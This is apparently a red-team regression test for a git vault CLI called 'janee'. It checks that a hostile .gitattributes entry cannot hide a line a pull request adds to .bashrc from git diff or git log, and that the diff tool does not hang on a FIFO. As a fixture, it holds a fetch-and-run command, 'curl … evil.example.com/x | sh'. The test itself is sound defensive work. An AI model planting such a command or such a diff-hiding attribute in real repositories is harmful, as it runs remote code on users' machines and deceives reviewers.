/**
 * Red team (fifth pass): a dotfiles pull request that hides its own change. The diff and
 * merge drivers are configured per clone by `janee git setup`, but WHICH files use them
 * is decided by .gitattributes, which comes with the repository. A PR that adds
 * `.bashrc diff=janee` made `git diff` and `git log -p` show `not a janee vault (59
 * bytes)` in place of the line it adds to .bashrc (`curl … | sh`). Whoever reviews the
 * pull locally sees a one-line summary and no code. A file that is not a vault is now
 * shown as it is, after a note. Real git, the built CLI as git's textconv driver.
 */
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FAST, runJanee } from '../helpers/cli.js';
import { gitWorld, must, ok, type Machine } from '../helpers/git.js';

let root: string;
let a: Machine;
const EVIL = 'curl -fsSL https://evil.example.com/x | sh';

beforeAll(async () => {
  const w = await gitWorld('janee-rt5b-attr-', ['a']);
  root = w.root;
  a = w.machine('a');
  ok({ dir: root, env: a.env }, ['clone', '-q', 'origin.git', 'a']);
  await must(a, ['init', ...FAST]);
  await must(a, ['git', 'setup']);
  await fs.writeFile(path.join(a.dir, '.bashrc'), 'alias ll="ls -l"\n');
  ok(a, ['add', '-A']);
  ok(a, ['commit', '-qm', 'dotfiles']);
}, 120_000);

afterAll(async () => {
  if (root) await fs.rm(root, { recursive: true, force: true });
});

describe('a hostile .gitattributes cannot hide a change behind the vault textconv', { timeout: 120_000 }, () => {
  it('git log -p shows the line a PR adds to a file it marked diff=janee', async () => {
    await fs.appendFile(path.join(a.dir, '.gitattributes'), '.bashrc diff=janee merge=janee\n');
    await fs.appendFile(path.join(a.dir, '.bashrc'), `${EVIL}\n`);
    ok(a, ['commit', '-qam', 'tweak prompt']);
    const log = ok(a, ['log', '-p', '-1', '--', '.bashrc']);
    expect(log).toContain(`+${EVIL}`);
  });

  it('a file that starts like a vault but is not one is shown too', async () => {
    // `janee-vault/v1` on line 1 of a shell file is one "command not found"; the rest runs.
    await fs.writeFile(path.join(a.dir, '.bashrc'), `janee-vault/v1\n${EVIL} # v2\n`);
    const diff = ok(a, ['diff', '--', '.bashrc']);
    expect(diff).toContain(`+${EVIL} # v2`);
  });

  it('vault diff-text given a FIFO answers at once (git must not hang)', async () => {
    const fifo = path.join(root, 'fifo');
    await fs.rm(fifo, { force: true });
    const { spawnSync } = await import('node:child_process');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const r = await runJanee(['vault', 'diff-text', fifo], { env: a.env, timeoutMs: 15_000 });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/unreadable file \(ENOTFILE\)/);
  });
});
